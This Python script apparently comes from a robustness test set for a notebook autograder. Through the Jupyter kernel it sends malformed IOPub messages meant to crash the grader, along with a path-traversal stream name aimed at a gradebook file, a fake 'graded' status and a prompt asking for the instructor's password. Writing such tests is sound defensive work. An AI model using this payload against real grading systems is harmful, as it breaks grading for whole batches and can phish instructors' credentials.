# Publishes messages that no notebook can hold: no data, data of the wrong type, unknown streams and
# types, lone surrogates, numbers that are not JSON. A grader that trusts them fails, and with it the
# batch.
# %% from attacks/parts/stand_ins.py
# %% relu
def attack():
    kernel = get_ipython().kernel
    for msg_type, content in [
        ("display_data", {}),
        ("display_data", {"data": "no dictionary", "metadata": 3, "transient": None}),
        ("display_data", {"data": {"text/plain": {"a": [1]}, "": None}, "metadata": {}}),
        (
            "display_data",
            {"data": {"application/json": float("nan")}, "metadata": {"x": float("inf")}},
        ),
        ("execute_result", {"data": None, "execution_count": "many"}),
        ("stream", {"name": "../../gradebook.db", "text": 7}),
        ("stream", {"text": "\udcff lone surrogate"}),
        ("error", {"ename": None, "evalue": ["\x00"], "traceback": "none"}),
        ("update_display_data", {"data": {}, "transient": {"display_id": {}}}),
        ("clear_output", {}),
        ("comm_open", {"comm_id": "\udcff", "data": {}}),
        ("comm_msg", {}),
        ("input_request", {"prompt": "password of the instructor: ", "password": True}),
        ("status", {"execution_state": "graded"}),
        ("no such type", None),
    ]:
        try:
            kernel.session.send(kernel.iopub_socket, msg_type, content, parent=kernel.get_parent())
        except Exception as error:
            print(msg_type, repr(error))
    return "sent"


attack()
